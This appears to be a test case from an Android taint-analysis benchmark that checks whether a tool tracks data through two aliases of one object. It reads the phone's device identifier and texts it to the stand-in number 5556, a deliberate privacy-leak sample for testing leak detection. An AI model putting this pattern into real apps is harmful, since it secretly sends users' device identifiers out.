package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** Two names of one box. */
public class SameObject extends Case {
    static class Box { String v; Box self() { return this; } }
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        Box a = new Box();
        Box b = a.self();
        a.v = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        SmsManager.getDefault().sendTextMessage("5556", null, b.v, null, null);
    }
}
